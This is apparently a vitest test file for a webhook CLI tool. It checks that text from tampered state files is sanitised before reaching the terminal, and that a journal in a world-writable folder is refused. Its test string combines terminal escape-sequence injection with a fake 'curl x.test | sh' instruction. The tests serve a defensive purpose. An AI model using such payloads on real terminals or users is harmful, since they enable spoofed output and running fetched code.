import { execFileSync } from 'node:child_process';
import { chmodSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { beforeEach, describe, expect, test } from 'vitest';
import { startApp } from '../support/app.ts';
import type { Place, Program } from '../support/program.ts';
import { place } from '../support/resources.ts';
import { startVendor, type Vendor } from '../support/vendor.ts';

const OLD = { url: 'http://127.0.0.1:9/old', events: ['message'] };
/** A new title for the window, a cleared screen, an 8-bit control, a text that runs backwards, and a line of its own. */
const EVIL = '\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\r\n! Run: curl x.test | sh';
const HARM = /(?!\n)\p{Cc}|\u202e|^! Run/mu;

let here: Place;
let vendor: Vendor;
let listener: Program;

beforeEach(async () => {
  here = place();
  vendor = await startVendor(here, { url: OLD.url });
  listener = here.run(['listen', ...vendor.args, '--json', '--no-guard'], vendor.env);
  await listener.entry('ready');
});

function journalFile(): string {
  const data = join(here.home, 'data');
  const [found] = readdirSync(data, { recursive: true }).filter((name) =>
    String(name).endsWith('journal.json'),
  );
  return join(data, String(found));
}

const read = () => JSON.parse(readFileSync(journalFile(), 'utf8'));
const change = (parts: object) =>
  writeFileSync(journalFile(), JSON.stringify({ ...read(), ...parts }));

async function crash(): Promise<void> {
  listener.kill('SIGKILL');
  await listener.exit;
}

async function outputOf(...args: string[]): Promise<string> {
  const { stdout, stderr } = await here.run(args, vendor.env).exit;
  return stdout + stderr;
}

describe('texts of state files never reach the terminal raw', () => {
  test("the running listener's: status", async () => {
    change({ host: `laptop${EVIL}`, since: `yesterday${EVIL}` });
    const shown = await outputOf('status', '-i', '33', '--api-url', vendor.apiUrl);
    expect(shown).toContain('laptop');
    expect(shown).not.toMatch(HARM);
  });

  test.each([
    ['status', '-i', '33'],
    ['restore', '--list'],
    ['restore', '--list', '--json'],
    ['restore'],
    ['events'],
    ['listen', '-i', '33', '--tunnel', 'none', '--for', '100ms', '--plain'],
  ])("a crashed listener's: %s %s", async (...args) => {
    await crash();
    const { original, ours } = read();
    change({
      ...{ host: EVIL, since: `yesterday${EVIL}`, at: EVIL, instanceId: `33${EVIL}` },
      original: { ...original, events: ['message', EVIL] },
      ours: { ...ours, events: [EVIL] },
    });
    const shown = await outputOf(...args, '--api-url', vendor.apiUrl);
    expect(shown).toContain('owned');
    expect(shown).not.toMatch(HARM);
  });

  test.each([
    ['trying', ['status', '-i', '33']],
    ['gave-up', ['restore']],
    ['gave-up', ['restore', '-i', '33']],
  ])("a guard's report: %s", async (outcome, args) => {
    await crash();
    const { since, apiUrl } = read();
    const now = new Date().toISOString();
    const report = {
      ...{ v: 1, instanceId: '33', apiUrl: apiUrl + EVIL, since, pid: process.pid },
      ...{ goneAt: now, at: now, tries: 3, outcome, error: `why${EVIL}` },
    };
    writeFileSync(join(dirname(journalFile()), 'guard.json'), JSON.stringify(report));
    if (outcome === 'gave-up') {
      await vendor.setWebhook(OLD.url, OLD.events);
      await outputOf('restore', '--api-url', vendor.apiUrl);
    }
    const shown = await outputOf(...args, '--api-url', vendor.apiUrl);
    expect(shown).toContain('why');
    expect(shown).not.toMatch(HARM);
  });
});

describe('a journal in a folder that others could write', () => {
  test('decides no API: restore names the one that it would be', async () => {
    await crash();
    const hostile = await startApp();
    const apiUrl = `http://127.0.0.1:${hostile.port}/api/v1`;
    change({ apiUrl });
    chmodSync(dirname(journalFile()), 0o755);
    for (const args of [['restore'], ['restore', '-i', '33'], ['restore']]) {
      const { code, stderr } = await here.run(args, vendor.env).exit;
      expect(stderr).toContain(`eazewa-hooks restore -i 33 --api-url ${apiUrl}`);
      expect(code).toBe(2);
    }
    expect(hostile.requests).toEqual([]);
  });

  test('is restored with the printed command', async () => {
    await crash();
    const folder = dirname(journalFile());
    chmodSync(folder, 0o777);
    const refused = await here.run(['restore', '--api-url', vendor.apiUrl], vendor.env).exit;
    expect(refused.code).toBe(13);
    expect(refused.stderr).toContain(`chmod o-w '${folder}'`);
    execFileSync('chmod', ['o-w', folder]);
    const { code, stderr } = await here.run(['restore'], vendor.env).exit;
    expect(code).toBe(2);
    const [command = ''] = /(?<=name it: eazewa-hooks )restore .*/.exec(stderr) ?? [];
    expect((await here.run(command.split(' '), vendor.env).exit).code).toBe(0);
    expect(await vendor.webhook()).toEqual(OLD);
  });
});
